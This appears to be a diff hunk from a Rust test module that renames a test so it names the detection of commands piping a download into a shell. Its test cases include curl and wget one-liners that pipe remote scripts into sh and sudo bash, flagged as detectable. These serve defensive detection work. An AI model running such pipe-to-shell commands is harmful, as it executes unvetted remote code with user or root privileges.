@@ -111,7 +111,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn lines() {
+    fn piping_a_download_into_a_shell_is_detected() {
         let cases = [
             ("curl -fsSL https://example.org/x.sh | sh", true),
             ("Run `wget -qO- https://example.org/x | sudo bash`.", true),
